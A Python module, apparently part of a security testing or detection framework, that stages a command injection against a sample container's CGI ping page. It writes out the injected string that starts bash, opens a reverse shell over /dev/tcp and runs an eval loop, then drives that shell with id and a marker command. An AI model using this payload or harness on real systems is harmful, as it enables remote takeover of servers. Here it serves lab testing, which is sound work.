"""The attack: a command injection through the ping page that opens a reverse shell.

The chain is what an incident report would show: Apache starts dash on the page's script, dash starts ping and
then what was injected, bash; bash connects back to the attacker over ``/dev/tcp``, runs ``id``, and waits for
commands. The attacker, like a person, looks at the answer for a moment before the next command, the marker,
which is made of shell builtins alone: it cannot fail because some other program was stopped, only because the
shell was.
"""

from __future__ import annotations

import asyncio
import secrets
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal
from urllib.parse import quote

from lictor.sample import netns
from lictor.sample.container import SampleContainer
from lictor.sample.errors import SampleError
from lictor.sample.visitor import Page, visit

CONNECT_TIMEOUT_S = 15.0
ANSWER_TIMEOUT_S = 10.0
PAGE_TIMEOUT_S = 15.0

Step = Literal["connected", "identified", "marker-sent", "marker-answered", "closed-by-peer"]
"""How far the attacker is: the shell is there, ``id`` has answered, and so on."""


@dataclass(frozen=True, kw_only=True, slots=True)
class AttackResult:
    """What the attacker got. All times are of the wall clock, in ns; None where it did not happen."""

    shell_connected: bool
    id_output: str
    """First line of the shell's output, empty if it was gone before."""
    marker_sent: bool
    """False if the shell hung up before the attacker's next command."""
    marker_answered: bool
    """The shell confirmed the marker command."""
    marker_left: bool
    """The marker's file is in the container's /tmp."""
    started_at: int
    connected_at: int | None
    identified_at: int | None
    """When the output of ``id`` arrived."""
    marker_sent_at: int | None
    closed_by_peer_at: int | None
    """When the shell's side closed before the attacker asked it to: it was killed."""
    ended_at: int
    page: Page | None
    """The answer to the injected request; None if the web server gave none in time."""

    @property
    def marker_ran(self) -> bool:
        """Whether the attacker's second command was carried out, by either evidence."""
        return self.marker_answered or self.marker_left


def injection(port: int) -> str:
    """What the attacker types into the page's field; ``port`` is where the shell is to connect back to."""
    shell = (
        f"exec 3<>/dev/tcp/127.0.0.1/{port}; id >&3; "
        'while read -r command <&3; do eval "$command" >&3 2>&1; done'
    )
    return f"127.0.0.1; bash -c '{shell}'"


async def attack(
    container: SampleContainer, *, pause_s: float = 1.0, on_step: Callable[[Step], None] | None = None
) -> AttackResult:
    """Break in and say how far it went; ``pause_s`` is how long the attacker looks before the next command.

    ``on_step`` is told of each step as it happens. Every wait is bounded, and no shell is left behind.
    Raises :class:`SampleError` when the container does not run.
    """
    attacker = _Attacker(container, pause_s, on_step)
    try:
        listener = await netns.listen(container.pid)
    except OSError as error:
        raise SampleError(f"the container {container.container_id} cannot be reached: {error}") from error
    with listener:
        return await attacker.run(listener)


class _Attacker:
    """One attack under way."""

    def __init__(
        self, container: SampleContainer, pause_s: float, on_step: Callable[[Step], None] | None
    ) -> None:
        self._container = container
        self._pause_s = pause_s
        self._on_step = on_step
        self._token = secrets.token_hex(8)
        self._marker_file = f"/tmp/marker-{self._token}"  # noqa: S108  in the container's own tmpfs
        self._id_output = ""
        self._connected_at: int | None = None
        self._identified_at: int | None = None
        self._marker_sent_at: int | None = None
        self._marker_answered = False
        self._closed_by_peer_at: int | None = None

    async def run(self, listener: socket.socket) -> AttackResult:
        started_at = time.time_ns()
        port = listener.getsockname()[1]
        # The page does not answer while the shell lives, so the request waits beside it.
        budget_s = CONNECT_TIMEOUT_S + 2 * ANSWER_TIMEOUT_S + self._pause_s + PAGE_TIMEOUT_S
        path = f"/cgi-bin/ping?host={quote(injection(port), safe='')}"
        request = asyncio.create_task(visit(self._container, path, timeout_s=budget_s))
        try:
            connection = await self._accept(listener, request)
            if connection is not None:
                self._connected_at = self._reached("connected")
                await self._use_shell(connection)
            page = await self._page(request)
        finally:
            request.cancel()
            await asyncio.gather(request, return_exceptions=True)
        return AttackResult(
            shell_connected=self._connected_at is not None,
            id_output=self._id_output,
            marker_sent=self._marker_sent_at is not None,
            marker_answered=self._marker_answered,
            marker_left=self._marker_is_left(),
            started_at=started_at,
            connected_at=self._connected_at,
            identified_at=self._identified_at,
            marker_sent_at=self._marker_sent_at,
            closed_by_peer_at=self._closed_by_peer_at,
            ended_at=time.time_ns(),
            page=page,
        )

    async def _accept(self, listener: socket.socket, request: asyncio.Task[Page]) -> socket.socket | None:
        """The shell's connection; None when the page answered (the shell is dead) or time is up first."""
        listener.setblocking(False)
        accepting = asyncio.create_task(asyncio.get_running_loop().sock_accept(listener))
        either = {accepting, request}
        try:
            await asyncio.wait(either, timeout=CONNECT_TIMEOUT_S, return_when=asyncio.FIRST_COMPLETED)
            return accepting.result()[0] if accepting.done() else None
        finally:
            accepting.cancel()

    async def _use_shell(self, connection: socket.socket) -> None:
        reader, writer = await asyncio.open_connection(sock=connection)
        try:
            self._id_output = await self._line(reader, ANSWER_TIMEOUT_S) or ""
            if self._id_output:
                self._identified_at = self._reached("identified")
            await self._drain(reader, self._pause_s)
            if self._closed_by_peer_at is None:
                await self._mark(reader, writer)
        finally:
            # Without its attacker the shell reads the end of its input and ends: nothing is left behind.
            writer.close()

    async def _mark(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send the marker command and look for its answer, then leave."""
        command = f"echo {self._token} >{self._marker_file} && echo marked {self._token}\n"
        writer.write(command.encode())
        self._marker_sent_at = self._reached("marker-sent")
        deadline = time.monotonic() + ANSWER_TIMEOUT_S
        while not self._marker_answered and (left := deadline - time.monotonic()) > 0:
            line = await self._line(reader, left)
            if line is None:
                return
            self._marker_answered = line == f"marked {self._token}"
        if self._marker_answered:
            self._reached("marker-answered")

    async def _drain(self, reader: asyncio.StreamReader, seconds: float) -> None:
        """Look at what else comes, until ``seconds`` have passed or the shell hangs up."""
        deadline = time.monotonic() + seconds
        while self._closed_by_peer_at is None and (left := deadline - time.monotonic()) > 0:
            await self._line(reader, left)

    async def _line(self, reader: asyncio.StreamReader, timeout_s: float) -> str | None:
        """The next line; None when none came in time or the shell hung up, which is noted with its time."""
        try:
            line = await asyncio.wait_for(reader.readline(), timeout_s)
        except TimeoutError:
            return None
        except ConnectionResetError:  # killed with a command unread
            line = b""
        if not line:
            self._closed_by_peer_at = self._reached("closed-by-peer")
            return None
        return line.decode(errors="replace").rstrip("\n")

    def _marker_is_left(self) -> bool:
        """Look for the marker's file from outside, whatever the shell said."""
        return Path(f"/proc/{self._container.pid}/root{self._marker_file}").exists()

    def _reached(self, step: Step) -> int:
        """Tell of a step; its time, ns."""
        now = time.time_ns()
        if self._on_step is not None:
            self._on_step(step)
        return now

    async def _page(self, request: asyncio.Task[Page]) -> Page | None:
        """What the visitor whose request was the injection gets to see in the end."""
        try:
            return await asyncio.wait_for(request, PAGE_TIMEOUT_S)
        except (TimeoutError, SampleError):
            return None
